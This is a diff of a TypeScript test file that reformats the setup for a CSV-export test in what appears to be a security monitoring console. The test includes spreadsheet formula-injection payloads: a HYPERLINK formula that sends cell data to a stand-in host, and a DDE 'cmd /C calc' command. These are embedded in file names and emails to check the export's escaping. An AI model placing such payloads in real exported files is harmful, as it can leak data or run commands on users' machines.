@@ -43,10 +43,31 @@ function parseCsv(text: string): string[][] {
   return rows;
 }
 
-const HEADER = ['id', 'observedAt', 'receivedAt', 'user', 'severity', 'score', 'indicators', 'channel', 'fileName', 'extension', 'fileCategory', 'size', 'mismatch', 'destinationCategory', 'service', 'host', 'url', 'trusted', 'credential', 'clientIp'];
+const HEADER = [
+  'id',
+  'observedAt',
+  'receivedAt',
+  'user',
+  'severity',
+  'score',
+  'indicators',
+  'channel',
+  'fileName',
+  'extension',
+  'fileCategory',
+  'size',
+  'mismatch',
+  'destinationCategory',
+  'service',
+  'host',
+  'url',
+  'trusted',
+  'credential',
+  'clientIp',
+];
 
 // Each of the six formula starts, in a file name and in a user email (both come from the browser).
-const INJECTIONS = ['=HYPERLINK("http://x.example/?"&A1)', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tlooks-blank', '\rreturn'];
+const INJECTIONS = ['=HYPERLINK("http://x.example/?"&A1)', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\tlooks-blank', '\rreturn'];
 
 let built: TestConsole;
 let bulk: FileEvent[];
@@ -67,9 +88,23 @@ beforeAll(async () => {
   await built.services.events.ingest(bulk, { ...context, receivedAt: BASE });
   tricky = [];
   for (const [i, text] of INJECTIONS.entries()) {
-    tricky.push(await sampleEvent({ id: sampleId(20_000 + i), observedAt: new Date(BASE + 1000 + i).toISOString(), user: { email: `${text}@evil.example` }, file: { name: `${text}.csv`, size: 1, mimeType: '' } }));
+    tricky.push(
+      await sampleEvent({
+        id: sampleId(20_000 + i),
+        observedAt: new Date(BASE + 1000 + i).toISOString(),
+        user: { email: `${text}@evil.example` },
+        file: { name: `${text}.csv`, size: 1, mimeType: '' },
+      }),
+    );
   }
-  tricky.push(await sampleEvent({ id: sampleId(20_100), observedAt: new Date(BASE + 2000).toISOString(), user: { email: 'eve@acme.example' }, file: { name: 'a,"b"\nc.txt', size: 1, mimeType: '' } }));
+  tricky.push(
+    await sampleEvent({
+      id: sampleId(20_100),
+      observedAt: new Date(BASE + 2000).toISOString(),
+      user: { email: 'eve@acme.example' },
+      file: { name: 'a,"b"\nc.txt', size: 1, mimeType: '' },
+    }),
+  );
   await built.services.events.ingest(tricky, { ...context, receivedAt: BASE + 5000 });
 });
 afterAll(() => built.close());
